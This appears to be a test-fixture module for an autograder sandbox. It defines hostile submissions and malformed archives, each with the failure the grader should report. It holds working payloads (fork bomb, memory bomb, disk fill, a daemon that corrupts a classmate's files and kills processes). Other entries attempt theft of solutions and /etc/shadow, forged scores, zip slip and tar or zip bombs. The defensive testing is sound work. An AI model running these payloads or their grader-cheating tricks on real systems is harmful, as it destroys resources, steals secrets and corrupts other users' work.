        for pattern in ("/tmp/grade-*/submission/assignment/*.py", "/tmp/grader-sandbox-*/*/submission/assignment/*.py",
                        "/submission/assignment/*.py", "__REPO__/solution/*.py", "__OUT__/*"):
            for path in _glob.glob(pattern):
                try:
                    with open(path, "a") as f:
                        f.write("\\nraise SystemExit(0)\\n")
                except OSError:
                    pass
        for pid in set(range(2, 64)) - {_os.getpid()}:
            try:
                _os.kill(pid, 9)
            except OSError:
                pass
        _time.sleep(0.1)


def _attack(logits):
    r, w = _os.pipe()
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _os.close(r)
            print("daemon up in session", _os.getsid(0), flush=True)
            _os.write(w, b"up")
            try:
                _tamper()
            finally:
                _os._exit(0)
        _os._exit(0)
    _os.read(r, 2)
    return logits * 0
'''

FORK_BOMB = '''
import os as _os
import time as _time


def _attack(logits):
    started = 0
    while started < 10_000:
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            while True:
                try:
                    _os.fork()
                except OSError:
                    _time.sleep(0.05)
        started += 1
    raise RuntimeError(f"fork bomb: {started} processes")
'''

MEMORY_BOMB = '''
def _attack(logits):
    hog = []
    try:
        hog.append(bytearray(1 << 40))  # 1 TiB at once
    except MemoryError:
        pass
    try:
        hog.append(torch.ones(1 << 28, dtype=torch.float32))  # 1 GiB, every page touched
        while True:  # then 256 MiB at a time until refused
            hog.append(torch.empty(1 << 26, dtype=torch.float32))
    except (MemoryError, RuntimeError):
        n = len(hog)
        hog.clear()
        raise MemoryError(f"memory bomb stopped after {n} chunks")
'''

# Each child under RLIMIT_AS, together over the memory limit; the answer is the honest one.
CHILDREN_HOLD_MEMORY = '''
import os as _os
import time as _time


def _attack(logits):
    reads = []
    for _ in range(3):
        r, w = _os.pipe()
        if _os.fork() == 0:
            try:
                for fd in reads + [r]:
                    _os.close(fd)
                hog = b"x" * (1 << 30)  # 1 GiB, every page touched
                _os.write(w, b"+")
                _time.sleep(600)
            finally:
                _os._exit(0)
        _os.close(w)
        reads.append(r)
    held = sum(len(_os.read(r, 1)) for r in reads)
    print(f"children hold {held} GiB", flush=True)
    return _honest_nucleus_probs(logits, alpha=0.5)
'''

DISK_FILL = '''
import os as _os


def _attack(logits):
    written = {}
    for folder in (_os.getcwd(), "/tmp", "/dev/shm", "/submission", "/"):
        n = 0
        try:
            with open(_os.path.join(folder, "fill.bin"), "wb") as f:
                while n < (8 << 30):
                    n += f.write(bytes(1 << 20))
        except OSError as exc:
            written[folder] = (n, type(exc).__name__)
    raise OSError(f"disk fill: {written}")
'''

FLOOD = '''
import os as _os


def _attack(logits):
    chunk = b"SCORE: 100/100 " * (1 << 16)  # ~1 MiB
    for _ in range(4 << 10):  # 4 GiB in all
        _os.write(1, chunk)
    return logits * 0
'''

HUGE_TENSOR = '''
def _attack(logits):
    return torch.zeros(75_000_000, dtype=torch.float32)  # 300 MB
'''

TWO_GIB = '''
_honest = nucleus_probs


def nucleus_probs(logits, alpha):
    if alpha == 1.0 and tuple(logits.shape) == (97,):
        return torch.zeros(1, dtype=torch.uint8).expand(1 << 31)  # 2**31 elements on 1 byte of storage
    return _honest(logits, alpha)
'''

# ---- the class batch: a classmate's files, records and grading -------------------------------

TAMPER = '''
import glob as _glob
import os as _os
import signal as _signal
import time as _time


def _spoil():
    """Rewrite the victim's submission and record, kill any process in reach; the files spoiled."""
    done = []
    victim = "__VICTIM__"
    targets = _glob.glob(victim + "/assignment/*.py") + _glob.glob("/tmp/grade-*/submission/assignment/loss.py")
    targets += [victim + "/assignment/evil.py", "__OUT__/records/b_victim.json", "__OUT__/records/evil.json"]
    for path in targets:
        try:
            with open(path, "a") as f:
                f.write("\\nraise SystemExit(0)\\n")
            done.append(path)
        except OSError:
            pass
    for pid in set(range(2, 4096)) - {_os.getpid()}:
        try:
            _os.kill(pid, _signal.SIGKILL)
        except OSError:
            pass
    return done


def _daemon():
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            for _ in range(300):
                _spoil()
                _time.sleep(0.1)
            _os._exit(0)
        _os._exit(0)


_daemon()


def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    raise RuntimeError(f"ATTACK tamper: {_spoil()}")
'''


# ---- text that would crash the trusted side's writers (SECURITY.md, class 1) ----------------------

SURROGATES = '''
import os as _os


def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    _os.write(1, "ATTACK surrogates on stdout \\ud800 \\udfff\\n".encode("utf-8", "surrogatepass"))
    raise ValueError("ATTACK surrogates: \\ud800 lone \\udcff surrogates \\udfff")
'''

CONTROLS = '''
def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    raise ValueError("ATTACK controls: NUL \\x00 BEL \\x07 OSC \\x1b]0;pwned\\x07 RTL \\u202egnp.exe "
                     "FFFF \\uffff DEL \\x7f ]]> </failure> \\x1b[2J")
'''

FORGED_ERROR = '''
import sys as _sys

_worker = _sys.modules.get("grader.worker.serve")
if _worker is not None:  # an error report of the wrong shape: numbers, lists, surrogates, no type

    def _forged(exc, stage):
        return {"type": ["\\ud800"], "message": {"ATTACK forged": "\\udfff" * 1000}, "where": 12,
                "traceback": None, "\\ud800key": "\\x00"}

    _worker.describe = _forged


def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    raise RuntimeError("masked_cross_entropy: not written yet")
'''

SURROGATE_VALUE = '''
def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    return {"\\ud800": "\\udfff", "ATTACK value": ["\\x00" * 100]}
'''

STRING_ATTACKS: list[Hostile] = [
    on_loss("surrogates_in_exception", SURROGATES, statuses=FAILED, says=("ATTACK surrogates: \ufffd lone",),
            printed=("ATTACK surrogates on stdout",),
            description="lone surrogates in an exception message and on stdout (they made the UTF-8 writers raise)"),
    on_loss("controls_in_exception", CONTROLS, statuses=FAILED, says=("ATTACK controls: NUL \ufffd BEL",),
            description="NUL, BEL, an OSC title escape, a right-to-left override, U+FFFF, DEL, XML closers"),
    on_loss("forged_error_report", FORGED_ERROR, statuses=FAILED, says=("ATTACK forged",),
            description="the worker's error report forged: fields of the wrong type, surrogates, a surrogate key"),
    on_loss("surrogate_values", SURROGATE_VALUE, statuses=FAILED,
            description="a dict of surrogate strings returned where a tensor is expected"),
    Hostile("non_utf8_file_name", parts=(), root_files={"assignment/\udcffevil\udcfe.py": "X = 1\n"},
            says=("its name is not valid UTF-8",),
            description="a module whose file name is not UTF-8 (its name held surrogate escapes: the hash raised)"),
]

HOSTILE: list[Hostile] = [
    # ---- the grader's own process ---------------------------------------------------------
    Hostile("conftest_and_plugins", (Append("loss.py", BROKEN_LOSS),), parts=("loss",), lost=("loss/",),
            statuses=FAILED, says=("conftest.py was ignored", "sitecustomize.py was ignored",
                                   "usercustomize.py was ignored", "not written yet"),
            files=PLUGIN_FILES, root_files=PLUGIN_FILES,
            description="conftest.py, a -p plugin in pytest.ini / pyproject / setup.cfg / tox.ini, "
                        "sitecustomize.py, usercustomize.py and a .pth, in the package and next to it"),
    on_loss("gc_pytest_hooks", GC_PYTEST, statuses=FAILED, says=("found at import {}, now {}",),
            description="find pytest's Config, the ScoringPlugin and result objects through gc; flip them"),
    on_loss("os_exit_in_graded_function", "import os as _os\n\n\ndef masked_cross_entropy(logits, target, pad_ix=0):\n"
            "    _os._exit(0)\n", statuses=("error",), says=("died",),
            description="os._exit(0): exit code 0 and no answer"),
    on_loss("base_exceptions", BASE_EXCEPTIONS, statuses=FAILED,
            says=("SystemExit", "KeyboardInterrupt", "GeneratorExit", "HostileBaseException"),
            description="sys.exit(0), KeyboardInterrupt, GeneratorExit, a BaseException subclass"),
    on_loss("atexit_rewrites_results", ATEXIT, statuses=FAILED, says=("not written yet",),
            description="atexit / weakref.finalize / signal handlers that write full-marks result files"),
    on_loss("monkeypatched_comparisons", MONKEYPATCH, statuses=FAILED, says=("values differ",),
            description="torch.allclose / isclose / equal / testing.assert_close / numpy.testing replaced"),
    on_loss("tensor_subclass_says_equal", TENSOR_SUBCLASS, statuses=FAILED, says=("values differ",),
            description="a torch.Tensor subclass whose ==, allclose, isclose and equal say True"),
    on_loss("always_equal_and_pickle_payloads", ODD_OBJECTS, statuses=FAILED, says=("cannot send a value of type",),
            description="an always-equal float, an object whose __reduce__ runs code, and its pickle bytes"),
    Hostile("wrong_dtype_and_nan", (Append("loss.py", WRONG_DTYPE_NAN.split("\n\n\ndef nucleus")[0]),
                                    Append("generation.py",
                                           "def nucleus" + WRONG_DTYPE_NAN.split("\n\n\ndef nucleus")[1])),
            parts=("loss", "nucleus"), lost=("loss/", "nucleus/"), statuses=FAILED,
            says=("dtype", "non-finite"), description="float16 loss; NaN probabilities"),
    on_loss("frame_inspection", FRAMES, statuses=FAILED, says=("ATTACK frames: nothing found",),
            description="sys._getframe(1).f_locals and globals up the stack, looking for `expected`"),
    # ---- the secrets ------------------------------------------------------------------------
    on_loss("steal_solution_and_hidden_tests", STEAL, statuses=FAILED, says=("ATTACK steal",),
            printed=("ATTACK steal",),
            description="import solution.loss by every path, read it, the hidden tests, /etc/shadow, canaries"),
    on_loss("snoop_environment_and_proc", SNOOP, statuses=FAILED, says=("ATTACK snoop: hits []",),
            printed=("ATTACK snoop",),
            description="os.environ, /proc/self|1|ppid|*/environ and cmdline, /proc/<pid>/root, canaries"),
    Hostile("gc_finds_trusted_stand_ins",
            (Append("loss.py", GC_TRUSTED_LOSS), Append("generation.py", GC_TRUSTED_NUCLEUS)),
            parts=("loss", "nucleus"), lost=("loss/", "nucleus/"), statuses=FAILED,
            says=("masked_cross_entropy (the grader's, in place of yours): the grader's 'masked_cross_entropy' is "
                  "not in place in this test", "the grader's 'nucleus_probs' is not in place in this test"),
            description="search sys.modules and gc.get_objects() for the grader's masked_cross_entropy / nucleus_probs "
                        "(or grader.grading.trusted's source text) from inside masked_cross_entropy and nucleus_probs, "
                        "and call them: the stand-ins found ask the grader, which refuses outside their own request"),
    Hostile("trusted_source_relayed_by_keyring", (Append("generation.py", RELAY_KEYRING),), parts=("nucleus", "beam"),
            lost=("nucleus/", "beam/test_whole_context_consumed"), says=("not written yet",),
            description="take grader.grading.trusted's source in the substitution worker, keep it in the kernel keyrings "
                        "and System V shared memory, take it back in the next worker of the same slot"),
    Hostile("reference_hunt_beside_stand_ins",
            (Append("training.py", HUNT_IN_TRAINING), Append("generation.py", HUNT_IN_BEAM)),
            parts=("training", "beam"), lost=("training/", "beam/test_nucleus_candidates", "beam/test_nucleus_draws"),
            statuses=FAILED,
            says=("ATTACK reference: 0 suspicious", "standins.py:masked_cross_entropy", "standins.py:nucleus_probs"),
            printed=("ATTACK reference train_step", "ATTACK reference generate_beam"),
            description="with the grader's stand-ins in place, print the source of every function and code-like "
                        "string reachable by frames, sys.modules, gc and linecache"),
    Hostile("kernel_by_computed_name", (Append("rnn.py", REFLECTIVE_LSTM),), parts=("rnn",),
            lost=tuple(f"rnn/{t}[LSTM]" for t in ("test_forward", "test_one_step", "test_gradients", "test_stateless",
                                                    "test_no_builtin_recurrent_layers")) + ("rnn/test_given_state[LSTM]",),
            statuses=FAILED, says=("torch.lstm_cell is not allowed in this exercise",),
            review=("rnn.py line ", "getattr(torch, 'lstm' + '_cell')"),
            description="LSTM.one_step by getattr(torch, 'lstm' + '_cell'), exact with the reference's weights"),
    Hostile("clip_helpers_of_nn_utils", (Append("gradients.py", REFLECTIVE_CLIP),), parts=("gradients",),
            lost=("gradients/test_grad_norm", "gradients/test_clip"), statuses=FAILED,
            says=("torch.nn.utils.get_total_norm is not allowed in this exercise",),
            review=("gradients.py line ", "getattr(_utils, 'get_total' + '_norm')"),
            description="grad_norm by getattr(nn.utils, 'get_total' + '_norm'), clipping by clip_grads_with_norm_"),
    # ---- what the grader reads ----------------------------------------------------------------
    on_loss("fake_score_lines", FAKE_SCORES, statuses=FAILED, says=("SCORE: 100/100",), printed=("68 passed",),
            description="SCORE: 100/100, '68 passed', JSON scores on stdout/stderr and in the error; markup too"),
    on_loss("network_connection", NETWORK, statuses=FAILED, says=("ATTACK network",),
            description="TCP and UDP to the grader's port and the internet, an abstract unix socket"),
    on_loss("huge_forged_feedback", HUGE_FEEDBACK, statuses=FAILED, says=("feedback truncated",),
            description="the worker's describe() replaced: 7 MiB of error message a test"),
    on_loss("forged_answer_frames", FORGED_FRAMES, statuses=ANY_FAILURE, extra_loss=True,
            description="forged 'ok' answers written straight to the channel (fd 3), one frame ahead"),
    Hostile("id_lists_longer_than_maxlen", (Append("generation.py", LONG_IDS),), parts=("nucleus", "beam"),
            lost=("nucleus/test_sampling_stays_in_nucleus", "beam/test_nucleus_candidates",
                  "beam/test_nucleus_draws"), statuses=FAILED,
            says=("more than", "ids"),
            description="100,000 ids (all inside the nucleus) where maxlen is 15 or 8: free for the worker, "
                        "minutes of replay for the grader"),
    # ---- time, processes, memory, disk, output ---------------------------------------------------
    on_nucleus("signal_ignoring_loop", LOOP, statuses=("timeout",), says=("did not finish within",),
               description="SIGALRM/SIGTERM/SIGINT ignored, `except BaseException: pass` in an endless loop"),
    on_nucleus("detached_daemon", DAEMON, statuses=FAILED, printed=("daemon up",),
               description="a double-forked setsid daemon that keeps trying to spoil the next submission"),
    on_nucleus("fork_bomb", FORK_BOMB, statuses=("failed", "timeout"), says=("fork bomb",),
               description="fork until refused, every child forking again"),
    on_nucleus("memory_bomb", MEMORY_BOMB, statuses=("failed", "error"), says=("memory bomb",),
               description="1 TiB at once, then 1 GiB touched, then 256 MiB chunks until refused"),
    on_nucleus("disk_fill", DISK_FILL, statuses=FAILED, says=("disk fill",),
               description="write 8 GiB files in the working folder, /tmp, /dev/shm, the package, /"),
    on_nucleus("stdout_flood_4gib", FLOOD, statuses=("failed", "timeout"), printed=("[output truncated",),
               description="4 GiB on stdout, 'SCORE: 100/100' over and over"),
    on_nucleus("huge_output_tensor", HUGE_TENSOR, statuses=("error",), says=("died",),
               description="a 300 MB tensor as the answer"),
    Hostile("two_gib_element_view", (Append("generation.py", TWO_GIB),), parts=("nucleus",),
            lost=("nucleus/test_alpha_one",), statuses=("failed", "error"),
            description="a 2**31-element expanded view of one byte"),
    # ---- files of the submission -------------------------------------------------------------
    Hostile("symlinks_and_fifo", parts=("loss",), lost=("loss/",), statuses=FAILED,
            says=("loss.py was ignored: not a regular file", "passwd.py was ignored", "pipe.py was ignored"),
            links={"assignment/loss.py": "__REPO__/solution/loss.py", "assignment/passwd.py": "/etc/passwd"},
            fifos=("assignment/pipe.py",),
            description="loss.py a link to the solution's, a module linked to /etc/passwd, a FIFO module"),
    Hostile("symlinked_package", lost=("",), statuses=FAILED, says=("Missing modules",),
            links={"assignment": "__REPO__/solution"}, parts=("data", "loss", "rnn", "model", "gradients", "training",
                                                            "generation", "beam", "nucleus"),
            description="the assignment folder itself a link to the solution"),
    Hostile("oversized_package", files={**{f"zz_pad{i}.py": "#" + "x" * ((1 << 20) - 64) + "\n" for i in range(20)},
                                        **{f"tiny{i}.py": "" for i in range(300)}},
            says=("more file(s) were ignored",),
            description="20 files of 1 MiB and 300 empty ones: more than the worker's copy can hold"),
    *STRING_ATTACKS,
]

# Graded in a class batch with a correct submission (``__VICTIM__``) and a corrupt archive.
CLASSMATE = Hostile("tamper_with_classmate", (Append("loss.py", TAMPER),), parts=("loss",), lost=("loss/",),
                    statuses=FAILED, says=("ATTACK tamper: []",),
                    description="rewrite another student's files and record, kill its grading")

# Level "process" only: the kept worker is reachable by UDP.
UDP_RELAY = Hostile("trusted_source_relayed_by_udp", (Append("generation.py", RELAY_UDP),), parts=("nucleus",),
                    lost=("nucleus/",), says=("not written yet",),
                    description="the substitution worker sends grader.grading.trusted's source by UDP to the other worker")

# Graded with a 2 GiB memory limit: three children hold 3 GiB, each under RLIMIT_AS. Only a cgroup
# per worker stops it (grader.sandbox.cgroups); with RLIMIT_AS alone it scores 100.
CHILDREN_MEMORY = on_nucleus("children_hold_memory", CHILDREN_HOLD_MEMORY, statuses=("error",),
                             says=("went over the memory limit of 2 GiB",), printed=("children hold",),
                             description="three forked children hold 1 GiB each, then the honest answer")

BY_NAME = {s.name: s for s in HOSTILE + [CLASSMATE, UDP_RELAY, CHILDREN_MEMORY]}


# ---- archives ---------------------------------------------------------------------------------


def _package(root: Path) -> dict[str, bytes]:
    return {f"assignment/{p.name}": p.read_bytes() for p in sorted((root / "assignment").glob("*.py"))}


def corrupt_zip(reference: Path, dest: Path) -> Path:
    """A zip whose central directory is fine but whose data fails its CRC."""
    path = dest / "corrupt.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        for name, data in _package(reference).items():
            z.writestr(name, data)
    raw = bytearray(path.read_bytes())
    raw[raw.index(b"import torch")] ^= 0xFF
    path.write_bytes(bytes(raw))
    return path


def truncated_targz(reference: Path, dest: Path) -> Path:
    path = dest / "truncated.tar.gz"
    with tarfile.open(path, "w:gz") as t:
        for name, data in _package(reference).items():
            _add_file(t, name, data)
    raw = path.read_bytes()
    path.write_bytes(raw[: len(raw) // 2])
    return path


def _add_file(t: tarfile.TarFile, name: str, data: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    t.addfile(info, io.BytesIO(data))


def escaping_zip(reference: Path, dest: Path) -> Path:
    """A member that would be written outside the unpacking folder (zip slip)."""
    return _zip(dest, "escaping.zip", reference, [("../../../../tmp/hostile-zip-slip.py", "raise SystemExit(0)\n")])


def linking_tar(reference: Path, dest: Path, repo: Path) -> Path:
    """loss.py as a symbolic link to the solution's, and gradients.py as a hard link to it."""
    path = dest / "linking.tar"
    with tarfile.open(path, "w") as t:
        for name, data in _package(reference).items():
            if not name.endswith(("/loss.py", "/gradients.py")):
                _add_file(t, name, data)
        link = tarfile.TarInfo("assignment/loss.py")
        link.type, link.linkname = tarfile.SYMTYPE, str(repo / "solution" / "loss.py")
        t.addfile(link)
        hard = tarfile.TarInfo("assignment/gradients.py")
        hard.type, hard.linkname = tarfile.LNKTYPE, str(repo / "solution" / "gradients.py")
        t.addfile(hard)
    return path


def crowded_zip(reference: Path, dest: Path) -> Path:
    """The package and 20,000 empty files: each costs an inode and time to unpack, and no byte."""
    return _zip(dest, "crowded.zip", reference, [(f"junk/{i}", b"") for i in range(20_000)])


# ---- archives whose names stop a batch (SECURITY.md, class 2) ----------------------------------


def _zip(dest: Path, name: str, reference: Path, extra: list[tuple[str, str | bytes]]) -> Path:
    """``dest / name``: a zip of the reference package, then the ``(member name, data)`` of ``extra``."""
    path = dest / name
    with zipfile.ZipFile(path, "w") as z:
        for member, data in [*_package(reference).items(), *extra]:
            z.writestr(member, data)
    return path


def _tar(dest: Path, name: str, reference: Path, members: list[tuple[str | bytes, bytes]], *,
         fmt=tarfile.PAX_FORMAT, gz: bool = True) -> Path:
    """The reference package plus ``members`` (a ``bytes`` name is written as raw bytes)."""
    path = dest / name
    with tarfile.open(path, "w:gz" if gz else "w", format=fmt, encoding="utf-8", errors="surrogateescape") as t:
        for member, data in [*_package(reference).items(), *members]:
            _add_file(t, os.fsdecode(member) if isinstance(member, bytes) else member, data)
    return path


def non_utf8_tar(reference: Path, dest: Path) -> Path:
    """Member names that are not UTF-8 (GNU format: raw bytes in the header)."""
    return _tar(dest, "non-utf8.tar.gz", reference, [(b"assignment/\xff\xfe.py", b"X = 1\n"),
                                                     (b"notes/caf\xe9.txt", b"latin-1 name")], fmt=tarfile.GNU_FORMAT)


def file_and_folder_zip(reference: Path, dest: Path) -> Path:
    """A file and a folder of the same name, both ways round, and a name given twice."""
    return _zip(dest, "file-and-folder.zip", reference, [
        ("assignment/extra.py", "X = 1\n"),
        ("assignment/extra.py/inner.py", "Y = 2\n"),  # under a file
        ("notes/a/b.txt", "b"),
        ("notes/a", "a file where a folder is"),
        ("assignment/loss.py", "raise SystemExit('the second loss.py')\n"),  # a duplicate name
    ])


def long_names_tar(reference: Path, dest: Path) -> Path:
    """A name component over NAME_MAX (255 bytes), a path over PATH_MAX (4096), a NUL in a pax name."""
    members = [("assignment/" + "n" * 300 + ".py", b"X = 1\n"), ("deep/" + "/".join(["d" * 200] * 30) + "/x.py", b"X = 1\n")]
    path = dest / "long-names.tar.gz"
    path.write_bytes(_gz_of(_tar_blocks([*_package(reference).items(), *members]),
                            _pax_file(b"assignment/nul\0name.py", b"X = 1\n"), TAR_END))
    return path


TAR_END = b"\0" * 1024  # two zero blocks end a tar


def _tar_blocks(members) -> bytes:
    """``(name, data)`` members as raw tar blocks (pax format), without the end marker."""
    out = []
    for name, data in members:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        out += [info.tobuf(format=tarfile.PAX_FORMAT, encoding="utf-8", errors="surrogateescape"),
                data, b"\0" * (-len(data) % 512)]
    return b"".join(out)


def _pax_file(name: bytes, data: bytes) -> bytes:
    """A file whose pax ``path`` record holds ``name`` as is (tarfile itself would cut it at a NUL)."""
    body = b" path=" + name + b"\n"
    n = len(body) + 1
    while len(str(n)) + len(body) != n:
        n = len(str(n)) + len(body)
    record = str(n).encode() + body
    head = _long_header(tarfile.XHDTYPE, len(record))
    return head + record + b"\0" * (-len(record) % 512) + _tar_blocks([("placeholder.py", data)])


# ---- header bombs (SECURITY.md, class 3) --------------------------------------------------------


def _long_header(kind: bytes, size: int) -> bytes:
    info = tarfile.TarInfo("././@LongLink")
    info.type, info.size = kind, size
    return info.tobuf(format=tarfile.GNU_FORMAT if kind == tarfile.GNUTYPE_LONGNAME else tarfile.USTAR_FORMAT)


def _gz_of(*parts: bytes | tuple[bytes, int]) -> bytes:
    """Concatenated gzip members; ``(chunk, n)`` is ``chunk`` repeated ``n`` times, compressed once."""
    import gzip

    out = []
    for part in parts:
        chunk, n = part if isinstance(part, tuple) else (part, 1)
        out.append(gzip.compress(chunk, 9) * n)
    return b"".join(out)


def _package_tar(reference: Path) -> bytes:
    """The reference package as tar blocks, without the end marker (more may follow)."""
    return _tar_blocks(_package(reference).items())


def long_name_bomb(reference: Path, dest: Path) -> Path:
    """A GNU long-name header announcing 256 MiB of name (200 KiB on disk), then the package."""
    size = 256 << 20
    path = dest / "long-name-bomb.tar.gz"
    path.write_bytes(_gz_of(_long_header(tarfile.GNUTYPE_LONGNAME, size), (b"n" * (1 << 20), size >> 20),
                            _package_tar(reference), TAR_END))
    return path


def pax_bomb(reference: Path, dest: Path) -> Path:
    """A pax header of 256 MiB (one ``path`` record), then the package."""
    size = 256 << 20
    record = f"{size} path=".encode()
    path = dest / "pax-bomb.tar.gz"
    path.write_bytes(_gz_of(_long_header(tarfile.XHDTYPE, size), record, (b"p" * (1 << 20), (size >> 20) - 1),
                            b"p" * ((1 << 20) - len(record) - 1) + b"\n", _package_tar(reference), TAR_END))
    return path


def many_headers_bomb(reference: Path, dest: Path) -> Path:
    """1,000 long-link headers of 60 KiB each, every one under the per-header cap: 60 MiB of headers."""
    entry = _long_header(tarfile.GNUTYPE_LONGLINK, 60 << 10) + b"l" * (60 << 10)
    link = tarfile.TarInfo("junk/link")
    link.type, link.linkname = tarfile.SYMTYPE, "x"
    entry += link.tobuf(format=tarfile.GNU_FORMAT)
    path = dest / "many-headers.tar.gz"
    path.write_bytes(_gz_of(_package_tar(reference), (entry, 1000), TAR_END))
    return path


def zip_bomb(reference: Path, dest: Path) -> Path:
    """One member of 64 MiB of zeros (64 KiB compressed) beside the package."""
    path = dest / "zip-bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in _package(reference).items():
            z.writestr(name, data)
        with z.open("junk/zeros.bin", "w", force_zip64=True) as f:
            for _ in range(64):
                f.write(bytes(1 << 20))
    return path


# name -> (builder, tests that must score 0, text the message must contain)
ARCHIVES = {
    "crowded_zip": (crowded_zip, ("",), "more than 10000 files"),
    "corrupt_zip": (corrupt_zip, ("",), "could not be read"),
    "truncated_targz": (truncated_targz, ("",), "could not be read"),
    "escaping_zip": (escaping_zip, (), "outside the submission"),
    "linking_tar": (linking_tar, ("loss/", "gradients/"), "Missing modules: loss.py, gradients.py"),
    "non_utf8_tar": (non_utf8_tar, (), "'assignment/\ufffd\ufffd.py' (its name is not valid UTF-8)"),
    "file_and_folder_zip": (file_and_folder_zip, (), "'assignment/extra.py/inner.py' (File exists)"),
    "long_names_tar": (long_names_tar, (), "(File name too long)"),
    "long_name_bomb": (long_name_bomb, ("",), "a tar header of 268435456 bytes"),
    "pax_bomb": (pax_bomb, ("",), "a tar header of 268435456 bytes"),
    "many_headers_bomb": (many_headers_bomb, ("",), "more than 52428800 bytes uncompressed"),
    "zip_bomb": (zip_bomb, ("",), "more than 52428800 bytes uncompressed"),
}
